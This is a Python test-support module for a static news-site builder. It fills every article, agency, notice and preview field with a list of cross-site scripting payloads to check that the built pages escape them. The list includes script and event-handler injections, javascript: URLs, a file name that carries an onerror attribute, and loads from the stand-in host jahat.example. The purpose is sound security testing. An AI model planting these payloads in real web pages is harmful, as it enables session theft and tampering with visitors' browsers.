"""Texts that try to run in a browser, and sites in which every field holds one.

`@` in an attack is where its name goes: `12.title`, the twelfth attack in a title. One that ran
says so by calling `__pwn` with it, and one that loaded something asks for `jahat.example/12.title`.
"""

from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path
from typing import Any

from pipeline.record.agency import Agency
from pipeline.record.finding import Finding
from pipeline.record.front_matter import render_article
from pipeline.site.build import build_all
from pipeline.site.card import Tag
from pipeline.site.editions import Edition, Former
from pipeline.site.encoding import Size
from pipeline.site.html import Html
from pipeline.site.kinds import AGENCIES, TOPICS, Kind
from pipeline.site.manifest import Manifest
from pipeline.site.notice import Notice
from pipeline.site.picture import Picture
from pipeline.site.plan import Month, Page
from pipeline.site.press import Press
from pipeline.site.preview_band import Band, band_html
from pipeline.site.preview_marking import marked_page
from pipeline.site.story import Story
from tests.site.support import URL, Office, agency, make_office, painting, sealed
from tests.site.theming import STORY

ATTACKS: Sequence[str] = (
    "<script>__pwn('@')</script>",
    "<ScRiPt>__pwn('@')</sCrIpT>",
    "</script><script>__pwn('@')</script>",
    "</title><script>__pwn('@')</script>",
    "</textarea></style><script>__pwn('@')</script>",
    "--><script>__pwn('@')</script>",
    "]]><script>__pwn('@')</script>",
    "<!--><script>__pwn('@')</script>",
    "<<script>__pwn('@')//<</script>",
    "<script/x>__pwn('@')</script>",
    "<script src=//jahat.example/@></script>",
    "<script type=module>__pwn('@')</script>",
    "\"><script>__pwn('@')</script>",
    "'><script>__pwn('@')</script>",
    '"><img src=x onerror="__pwn(\'@\')">',
    "'><img src=x onerror=\"__pwn('@')\">",
    "<img src=x onerror=__pwn('@')>",
    "<img src=//jahat.example/@>",
    "<img/src=x/onerror=__pwn('@')>",
    "<svg onload=__pwn('@')>",
    "<svg/onload=__pwn('@')>",
    "<svg><script>__pwn('@')</script></svg>",
    "<svg><animate onbegin=__pwn('@') attributeName=x dur=1s>",
    "<math><mtext><script>__pwn('@')</script></mtext></math>",
    "<body onload=__pwn('@')>",
    "<details open ontoggle=__pwn('@')>x</details>",
    "<input autofocus onfocus=__pwn('@')>",
    "<video><source onerror=__pwn('@')></video>",
    "<iframe src=\"javascript:parent.__pwn('@')\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwn('@')</script>\"></iframe>",
    "<iframe src=//jahat.example/@></iframe>",
    "<object data=//jahat.example/@></object>",
    "<embed src=//jahat.example/@>",
    "<link rel=stylesheet href=//jahat.example/@>",
    "<style>@import '//jahat.example/@';</style>",
    "<meta http-equiv=refresh content=\"0;url=javascript:__pwn('@')\">",
    '" onmouseover="__pwn(\'@\')" autofocus onfocus="__pwn(\'@\')" x="',
    "' autofocus onfocus='__pwn(\"@\")' x='",
    "[tekan](javascript:__pwn('@'))",
    "[x](x \"y\"){onclick=__pwn('@')}",
    "&lt;script&gt;__pwn('@')&lt;/script&gt;",
    "&#60;script&#62;__pwn('@')&#60;/script&#62;",
    "\\u003cscript\\u003e__pwn('@')\\u003c/script\\u003e",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>__pwn('@')</x:script>",
    "{{ self.__init__.__globals__ }}<script>__pwn('@')</script>",
    "javascript:__pwn('@')",
)
OF_AN_ARTICLE = ("title", "summary", "body", "caption", "alt", "credit", "agency")
IDENTITY = ("name", "government", "unit", "address", "city", "phone", "email")
CONTACT = ("name", "title", "phone", "email")
SITE = ("title", "tagline", "notice", "about")
ALSO = ("topic", "number", "former", "changes", "reason", "standing", "digest", "finding")
FIELDS = (
    *OF_AN_ARTICLE, *(f"identity-{name}" for name in IDENTITY),
    *(f"contact-{name}" for name in CONTACT), *(f"site-{name}" for name in SITE), *ALSO,
)  # fmt: skip
FILE = "a' onerror=__pwn(1) x=' & b.png"


def attack(place: int, field: str) -> str:
    """The attack that this article has in a field, with its name in it."""
    number = (place + FIELDS.index(field)) % len(ATTACKS)
    return ATTACKS[number].replace("@", f"{number}.{field}")


def hostile_agency() -> Agency:
    """An office that attacks in whatever it says of itself."""

    def of(section: str, names: Sequence[str]) -> dict[str, str]:
        return {name: attack(7 * n, f"{section}-{name}") for n, name in enumerate(names)}

    return agency(
        identity=of("identity", IDENTITY),
        contact=of("contact", CONTACT),
        site=of("site", SITE),
        topics={f"topik_{n}": f"Topik {attack(n, 'topic')}" for n in range(len(ATTACKS))},
    )


def hostile_site(folder: Path) -> Path:
    """A site that is built as every site is: an article for each attack, in all of its fields."""
    picture = painting(1, 60, 40, "PNG")
    places = range(len(ATTACKS))
    files: dict[str, bytes] = {}
    for place in places:
        files[f"{_folder(place)}/index.md"] = _text(place, photo=FILE)
        files[f"{_folder(place)}/versions/1.md"] = _text(place, photo=None, field="former")
        files[f"{_folder(place)}/{FILE}"] = picture
    office = make_office(folder / "repo", files)
    published = [
        replace(one, number=attack(place, "number"), editions=(_edition(place),))
        for place, one in zip(places, _in_their_order(office), strict=True)
    ]
    notices = [
        Notice(f"content/2026/12/01-c{place:02}", "2026-12-02T08:00:00+09:00", is_final=True,
               reason=attack(place, "reason"))
        for place in places
    ]  # fmt: skip
    with Press() as press:
        tree = build_all(office.workshop(press, agency=hostile_agency()), published, notices)
    output = folder / "output"
    for entry in office.repository.tree(tree):
        file = output / entry.path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(office.repository.blob(entry.oid))
    _put_previews(output)
    return sealed(output, Manifest(tree, office.commit)).path


def naked_pages() -> Iterator[Page]:
    """Pages whose values are written as they come, as if nothing were encoded or sanitised."""
    stories = [naked_story(place) for place in range(len(ATTACKS))]
    for place, story in enumerate(stories):
        related = [(one.path, "2026-11-20", one.title) for one in stories[place : place + 3]]
        values = {"story": story, "newer": stories[place - 1], "older": story, "related": related}
        yield Page(story.path, "article", values)
        notice = Notice(story.folder, "2026-12-02T08:00:00+09:00", True, attack(place, "reason"))
        if place % 3 == 0:
            yield Page(f"dicabut/{place}/", "notice", {"notice": notice})
            edition = story.editions[0]
            yield Page(f"{story.path}versi/1/", "version", {"story": story, "edition": edition})
            yield from _naked_group(place, TOPICS, story.topics[0], stories)
            yield from _naked_group(place, AGENCIES, story.agency, stories)
    yield from _naked_lists(stories)


def _naked_group(place: int, kind: Kind, tag: Tag, stories: Sequence[Story]) -> Iterator[Page]:
    """What a topic or an agency has of its own."""
    home = f"{kind.folder}/{place}/"
    of_it = {"kind": kind, "tag": tag, "home": home}
    rows = [(one.path, one.date.isoformat(), one.title) for one in stories]
    yield Page(home, "group", {**of_it, "stories": stories[:10], "years": [2026]})
    yield Page(f"{home}2026/", "group_year", {**of_it, "year": 2026, "rows": rows})


def _naked_lists(stories: Sequence[Story]) -> Iterator[Page]:
    """The pages that show many articles, and those that show the office alone."""
    day, topics = date(2026, 11, 1), [tag for story in stories for tag in story.topics]
    requests = [
        (attack(place, "number"), attack(place, "standing"), "2026-11-24")
        for place in range(len(stories))
    ]
    yield Page("", "index", {"stories": stories, "topics": topics})
    yield Page("arsip/", "archive", {"years": [(2026, [day])]})
    months = [Month(day, len(stories) + 1, list(stories))]
    yield Page("2026/", "year", {"year": 2026, "months": months})
    days = {"day": day, "days": [(day, stories)], "newer": day, "older": day}
    yield Page("2026/11/", "month", days)
    yield Page("topik/", "groups", {"kind": TOPICS, "tags": topics})
    agencies = [story.agency for story in stories]
    yield Page("instansi/", "groups", {"kind": AGENCIES, "tags": agencies})
    yield Page("ajukan/", "submit", {"form": "formulir/", "requests": requests})
    yield Page("404.html", "notfound", {"stories": stories})
    for path, template in (
        ("tentang/", "about"), ("kontak/", "contact"), ("ajukan/formulir/", "form"),
        ("cari/", "search"),
    ):  # fmt: skip
        yield Page(path, template, {})


def naked_story(place: int) -> Story:
    """The article of an attack, its text unread by any converter."""
    picture = Picture(
        FILE, attack(place, "alt"), Size(60, 40), attack(place, "caption"), attack(place, "credit")
    )
    edition = _edition(place)
    former = Former(attack(place, "former"), "x", Html(attack(place, "former")))
    return replace(
        STORY,
        folder=_folder(place),
        title=attack(place, "title"),
        summary=attack(place, "summary"),
        body=Html(attack(place, "body")),
        agency=Tag("dinas", attack(place, "agency")),
        topics=(Tag("topik", attack(place, "topic")),),
        pictures=(picture, picture),
        lead_picture=picture,
        gallery=(picture,),
        editions=(edition,),
        formers={edition.former: former},
    )


def _folder(place: int) -> str:
    day = date(2026, 11, 1) + timedelta(days=place % 28)
    return f"content/{day:%Y/%m/%d}-b{place:02}"


def _text(place: int, *, photo: str | None, field: str = "") -> bytes:
    def of(name: str) -> str:
        return attack(place, field or name)

    photos = [{"file": photo, **{name: of(name) for name in ("caption", "credit", "alt")}}]
    meta: Mapping[str, Any] = {
        "title": f"Judul {of('title')}",
        "date": _folder(place)[len("content/") :][:10].replace("/", "-"),
        "agency": f"Dinas {of('agency')}",
        "topics": [f"topik_{place}"],
        "summary": f"Ringkasan {of('summary')}",
        "photos": photos if photo else [],
    }
    body = of("body")
    table = f"| {body} | b |\n|---|---|\n| a | b |"
    return render_article(meta, f"{body}\n\n# {body}\n\n- {body}\n\n{table}\n")


def _edition(place: int) -> Edition:
    return Edition("2026-11-30T09:10:00+09:00", attack(place, "changes"), "versi/1/")


def _in_their_order(office: Office) -> list[Any]:
    return sorted(office.published(), key=lambda one: one.folder[-2:])


def _put_previews(site: Path) -> None:
    """Each article once more, as the preview of a draft."""
    for place in range(len(ATTACKS)):
        page = site / _folder(place).removeprefix("content/") / "index.html"
        said, number = attack(place, "finding"), attack(place, "number")
        finding = Finding(said, 3, "article-html", said, said)
        band = Band(number, attack(place, "standing"), attack(place, "digest"), [finding])
        text = marked_page(
            page.read_text(encoding="utf-8"), number=number, band=band_html(band), site=URL,
            there=set(),
        )  # fmt: skip
        file = site / f"pratinjau/{place}/index.html"
        file.parent.mkdir(parents=True)
        file.write_text(text, encoding="utf-8")
